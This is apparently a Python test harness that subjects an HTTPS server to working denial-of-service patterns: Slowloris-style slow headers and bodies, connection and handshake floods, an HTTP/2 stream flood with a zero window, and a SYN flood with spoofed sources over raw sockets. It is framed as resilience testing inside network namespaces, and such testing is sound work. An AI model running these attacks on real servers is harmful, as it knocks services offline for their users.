#!/usr/bin/env python3
"""Behaves badly towards an HTTPS server, for so many seconds, and says how often it could.

abuser.py KIND ADDRESS PORT SECONDS CONNECTIONS SOURCE

KIND, each by as many connections from the address SOURCE of this machine, begun again when the server ends them:
  stalls      connect and never say a word
  dribbles    a header a byte a second, after the TLS handshake
  bodies      a body a byte a second, after good headers
  headers     headers without an end, as fast as they are taken
  handshakes  a new TLS connection, one request, and the next
  requests    requests without a key, sixteen on the way at once
  unread      HTTP/2, a hundred requests on the way at once, and none of the answers read
  halfopen    SYN from addresses of nobody, as fast as they can be sent; wants root

For tests between network namespaces of one machine; it ends by itself. Prints one line of JSON: how many connections were open in
the end, how often one was begun, refused, or ended by the server, and what was answered, by status.
"""
import asyncio
import collections
import functools
import json
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time

REQUEST = b"GET /v1/accounts HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_none\r\n\r\n"
LARGE = "/v1/openapi.json"  # more than an edge keeps: a worker's place for each
POST = b"POST /v1/transfers HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_none\r\nIdempotency-Key: x\r\nContent-Length: 60000\r\n\r\n"

@functools.cache
def tls(protocol):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context

def frame(kind, flags, stream, payload):
    """Of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload

class Abuser:
    def __init__(self, address, port, until, source):
        self.address, self.port, self.until, self.source = address, port, until, source
        self.count = collections.Counter()
        self.status = collections.Counter()

    def left(self):
        return self.until - time.monotonic()

    async def connect(self, context):
        self.count["begun"] += 1
        return await asyncio.wait_for(asyncio.open_connection(
            self.address, self.port, ssl=context, local_addr=(self.source, 0)), max(0.1, min(5, self.left())))

    async def note_answers(self, reader):
        """Until the server ends it."""
        while True:
            line = await reader.readline()
            if not line:
                return
            if line.startswith(b"HTTP/1.1 "):
                self.status[line[9:12].decode("ascii", "replace")] += 1

    async def stalls(self, reader, _writer):
        await self.note_answers(reader)

    async def drip(self, reader, writer, start, drop):
        answers = asyncio.ensure_future(self.note_answers(reader))
        try:
            writer.write(start)
            while not answers.done() and self.left() > 0:
                writer.write(drop)
                await writer.drain()
                await asyncio.wait([answers], timeout=min(1, max(0.01, self.left())))
        finally:
            answers.cancel()

    async def dribbles(self, reader, writer):
        await self.drip(reader, writer, b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ", b"a")

    async def bodies(self, reader, writer):
        await self.drip(reader, writer, POST, b"a")

    async def headers(self, reader, writer):
        answers = asyncio.ensure_future(self.note_answers(reader))
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
            while not answers.done() and self.left() > 0:
                writer.write(b"X-Large: " + 4000 * b"a" + b"\r\n")
                await writer.drain()
                await asyncio.sleep(0)
        finally:
            answers.cancel()

    async def handshakes(self, reader, writer):
        writer.write(REQUEST.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))
        await self.note_answers(reader)

    async def requests(self, reader, writer):
        while self.left() > 0:
            writer.write(16 * REQUEST)
            await writer.drain()
            for _ in range(16):
                head = await reader.readuntil(b"\r\n\r\n")
                self.status[head[9:12].decode("ascii", "replace")] += 1
                length = [l for l in head.lower().split(b"\r\n") if l.startswith(b"content-length:")]
                await reader.readexactly(int(length[0][15:]) if length else 0)

    async def unread(self, reader, writer):
        fields = ((":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", LARGE))
        block = b"".join(b"\0" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in fields)  # HPACK, all literal
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack("!HI", 4, 0)))  # SETTINGS_INITIAL_WINDOW_SIZE: nothing
        writer.writelines(frame(1, 5, 2 * i + 1, block) for i in range(100))
        while True:
            head = await reader.readexactly(9)
            self.count["goaway"] += head[3] == 7
            await reader.readexactly(int.from_bytes(head[:3], "big"))

    async def one(self, kind):
        context = None if kind == "stalls" else tls("h2" if kind == "unread" else "http/1.1")
        while self.left() > 0:
            writer = None
            try:
                reader, writer = await self.connect(context)
                self.count["open"] += 1
                try:
                    await asyncio.wait_for(getattr(self, kind)(reader, writer), max(0.01, self.left()))
                    self.count["ended"] += 1
                finally:
                    if self.left() > 0:
                        self.count["open"] -= 1
            except asyncio.TimeoutError:
                pass
            except (OSError, ssl.SSLError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                self.count["refused" if writer is None else "ended"] += 1
                await asyncio.sleep(0.05)
            finally:
                if writer:
                    writer.transport.abort()

    async def run(self, kind, connections):
        await asyncio.gather(*(self.one(kind) for _ in range(connections)))

def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF

def halfopen(address, port, until):
    """Sources of 198.18.0.0/15, which RFC 2544 keeps for benchmarks: nobody answers what is sent back there."""
    fd = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to, sent = socket.inet_aton(address), 0
    while time.monotonic() < until:
        for _ in range(64):
            source = struct.pack("!I", 0xC6120000 + random.randrange(1 << 17))
            tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.randrange(1 << 32), 0, 5 << 4, 2, 65535, 0, 0)
            tcp = tcp[:16] + struct.pack("!H", checksum(source + to + struct.pack("!BBH", 0, 6, 20) + tcp)) + tcp[18:]
            fd.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, to) + tcp, (address, 0))
            sent += 1
    return {"begun": sent}

def main():
    kinds = ("stalls", "dribbles", "bodies", "headers", "handshakes", "requests", "unread", "halfopen")
    if len(sys.argv) != 7 or sys.argv[1] not in kinds or not all(word.isdigit() for word in sys.argv[3:6]):
        sys.exit(__doc__)
    kind, address, port, until = sys.argv[1], sys.argv[2], int(sys.argv[3]), time.monotonic() + int(sys.argv[4])
    if kind == "halfopen":
        print(json.dumps(halfopen(address, port, until)))
        return
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    abuser = Abuser(address, port, until, sys.argv[6])
    asyncio.run(abuser.run(kind, int(sys.argv[5])))
    print(json.dumps({**abuser.count, "status": abuser.status}), flush=True)
    os._exit(0)  # thousands of connections need no farewell

main()
